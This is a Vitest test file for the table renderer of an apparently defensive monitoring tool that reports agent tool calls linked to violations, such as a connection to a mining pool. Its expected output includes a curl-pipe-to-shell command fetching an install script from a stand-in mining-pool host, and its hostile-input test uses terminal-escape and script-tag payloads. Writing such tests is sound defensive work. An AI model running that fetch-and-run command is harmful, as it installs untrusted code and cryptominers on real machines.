import { describe, expect, it } from 'vitest';
import { tableRenderer } from '../../src/report/table.js';
import { hostileReport, sampleReport } from '../helpers/report.js';

const SGR = /\u001b\[[0-9;]*m/g;

describe('table renderer', () => {
  it('render() with colour off writes no escape bytes and shows the violations and their cause', async () => {
    const out = await tableRenderer.render(sampleReport(), { color: false });
    expect(out).not.toContain('\u001b');
    const lines = out.split('\n');
    expect(lines[0]).toBe('Violations (3)');
    const v1 = lines.find((l) => l.startsWith('V1 '))!;
    expect(v1).toContain('2024-05-01T10:00:01.250Z');
    expect(v1).toContain('toolu_01A9xQ');
    expect(v1.trimEnd().endsWith('0.91')).toBe(true);
    expect(lines).toContain('    $ curl -s http://pool.minexmr.example:3333/install.sh | sh');
    expect(lines).toContain('    - the call started 1.3 s before the connection');
    expect(out).toContain('violations 3, attributed 1, unattributed 2, incidents 1');
  });

  it('render() with colour on uses only SGR colour sequences', async () => {
    const out = await tableRenderer.render(sampleReport(), { color: true });
    expect(out).toMatch(SGR);
    expect(out.replace(SGR, '')).toBe(await tableRenderer.render(sampleReport(), { color: false }));
  });

  it('render() strips terminal controls from hostile text, colour off and on', async () => {
    for (const color of [false, true]) {
      const out = (await tableRenderer.render(hostileReport(), { color })).replace(SGR, '');
      // eslint-disable-next-line no-control-regex
      expect(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/.test(out)).toBe(false);
      expect(out).not.toContain(']0;title');
      for (const line of out.split('\n')) expect(line).not.toMatch(/^(line2|line3)/);
      expect(out).toContain('<script>alert(1)</script>');
    }
  });

  it('render() shows GeoIP facts in a GEO column and lists external addresses, only when --geoip gave any', async () => {
    const out = await tableRenderer.render(sampleReport(), { color: false });
    const lines = out.split('\n');
    expect(lines[1]).toMatch(/^ID +TIME \(UTC\) +SEV +ACTION +WHAT +GEO +RULE +CAUSED BY +CONF$/);
    const v1 = lines.find((l) => l.startsWith('V1 '))!;
    expect(v1).toMatch(/ NL\/AS64500 +net\.mining-pool /);
    expect(lines).toContain('External addresses (1, GeoIP)');
    expect(lines).toContain('  203.0.113.9  NL · AS64500 Example Hosting BV  destination, V1');
    const plain = sampleReport();
    plain.violations[0]!.dst = { ip: '203.0.113.9', port: 3333 };
    const without = await tableRenderer.render(plain, { color: false });
    expect(without.split('\n')[1]).not.toContain('GEO');
    expect(without).not.toContain('External addresses');
  });
});
